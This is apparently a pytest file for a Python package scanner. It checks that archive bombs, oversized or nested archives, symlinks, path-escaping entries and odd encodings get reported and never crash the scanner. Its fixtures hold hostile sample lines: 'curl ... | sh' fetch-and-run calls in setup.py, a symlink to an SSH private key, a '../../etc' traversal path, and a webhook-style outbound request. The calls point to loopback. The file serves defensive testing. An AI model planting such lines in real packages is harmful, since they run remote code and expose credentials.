"""Archive edge cases: bounded and reported (findings or an error verdict), never a crash."""

from __future__ import annotations

import io
import tarfile
import time
import zipfile

import pytest

from bastion.protect.scan import ScanReport
from bastion.protect.scan.archive import Limits
from bastion.protect.scan.engine import Config, scan_bytes
from bastion.protect.scan.rules import load_rules
from tests.protect.scan.builders import LOOPBACK, sdist, wheel

pytestmark = pytest.mark.one_backend


def scan(data: bytes, filename: str, **limits: int) -> ScanReport:
    return scan_bytes(data, filename, Config(rules=load_rules(), limits=Limits(**limits)))


def anomalies(report: ScanReport) -> list[str]:
    return [f.excerpt for f in report.findings if f.rule == "archive-anomaly"]


def tar_bytes(
    entries: list[tarfile.TarInfo], payloads: dict[str, bytes], mode: str = "w:gz"
) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for entry in entries:
            data = payloads.get(entry.name)
            archive.addfile(entry, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def test_zip_bomb_member_is_not_inflated() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("demo/__init__.py", b"#" * (50 * 1024 * 1024))
    started = time.monotonic()
    report = scan(buffer.getvalue(), "demo-1.0-py3-none-any.whl")
    assert time.monotonic() - started < 5
    assert report.verdict != "error"
    assert any("zip bomb" in a for a in anomalies(report))


def test_tar_gz_bomb_stops_at_the_decompressed_bound() -> None:
    entry = tarfile.TarInfo("demo-1.0/data.py")
    entry.size = 8 * 1024 * 1024
    data = tar_bytes([entry], {entry.name: b"\0" * entry.size})
    report = scan(data, "demo-1.0.tar.gz", max_total_size=1024 * 1024)
    assert report.verdict != "error"
    assert any("bound reached" in a for a in anomalies(report))


def test_huge_single_member_is_read_in_part() -> None:
    payload = ("x = 1\n" * 400_000).encode()
    report = scan(
        sdist("demo", "1.0", {"demo/__init__.py": payload}),
        "demo-1.0.tar.gz",
        max_member_size=64 * 1024,
    )
    assert any("read in part" in a for a in anomalies(report))
    assert report.verdict == "clean"


def test_too_many_members_are_bounded() -> None:
    files: dict[str, str | bytes] = {f"demo/m{i}.py": "" for i in range(50)}
    report = scan(wheel("demo", "1.0", files), "demo-1.0-py3-none-any.whl", max_members=10)
    assert any("more than 10 members" in a for a in anomalies(report))


def test_nested_archives_are_opened_to_a_depth_and_reported() -> None:
    inner = sdist("inner", "1.0", {"setup.py": f"import os\nos.system('curl {LOOPBACK}/x | sh')\n"})
    outer = sdist("demo", "1.0", {"vendor/inner-1.0.tar.gz": inner})
    report = scan(outer, "demo-1.0.tar.gz")
    assert any("archive inside the archive" in a for a in anomalies(report))
    assert any(f.path.startswith("demo-1.0/vendor/inner-1.0.tar.gz!") for f in report.findings)
    shallow = scan(outer, "demo-1.0.tar.gz", max_depth=0)
    assert any("nested too deep" in a for a in anomalies(shallow))


def test_links_and_escaping_paths_are_reported_not_followed() -> None:
    link = tarfile.TarInfo("demo-1.0/secret.py")
    link.type = tarfile.SYMTYPE
    link.linkname = "/home/user/.ssh/id_rsa"
    escape = tarfile.TarInfo("../../etc/evil.py")
    escape.size = 4
    report = scan(tar_bytes([link, escape], {escape.name: b"x=1\n"}), "demo-1.0.tar.gz")
    found = anomalies(report)
    assert any(a.startswith("link to /home/user/.ssh") for a in found)
    assert any("escapes the archive" in a for a in found)
    assert report.verdict != "error"


def test_non_utf8_source_is_analysed_without_crashing() -> None:
    latin = (
        "# -*- coding: latin-1 -*-\nimport os\nname = 'caf\xe9'\n"
        "os.system('curl http://127.0.0.1:9/ | sh')\n"
    )
    raw = b"\xff\xfe\x00garbage \x80\x81 exec(\n"
    report = scan(
        sdist("demo", "1.0", {"setup.py": latin.encode("latin-1"), "demo/__init__.py": raw}),
        "demo-1.0.tar.gz",
    )
    assert report.verdict == "malicious"
    assert "shell-download" in {f.rule for f in report.findings}


def test_tar_gz_that_is_really_a_zip_is_read_as_a_zip() -> None:
    data = wheel(
        "demo",
        "1.0",
        {
            "demo/__init__.py": (
                f"import requests\nrequests.get('{LOOPBACK}/api/webhooks/1234567/x')\n"
            )
        },
    )
    report = scan(data, "demo-1.0.tar.gz")
    assert any("named .tar.gz but is a zip" in a for a in anomalies(report))
    assert report.verdict in ("suspicious", "malicious")


def test_not_an_archive_is_an_error_verdict() -> None:
    report = scan(b"this is not an archive", "demo-1.0.tar.gz")
    assert report.verdict == "error" and report.error and "not a zip or tar" in report.error


def test_truncated_archive_is_an_error_or_a_finding() -> None:
    data = sdist("demo", "1.0", {"demo/__init__.py": "x = 1\n" * 10_000})
    report = scan(data[: len(data) // 2], "demo-1.0.tar.gz")
    assert report.verdict == "error" or anomalies(report)
    empty_zip = scan(b"PK\x05\x06" + b"\0" * 18, "demo-1.0.zip")
    assert empty_zip.verdict in ("clean", "error")


def test_deeply_nested_code_does_not_crash_the_parser() -> None:
    deep = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    report = scan(wheel("demo", "1.0", {"demo/__init__.py": deep}), "demo-1.0-py3-none-any.whl")
    assert report.verdict in ("clean", "suspicious")
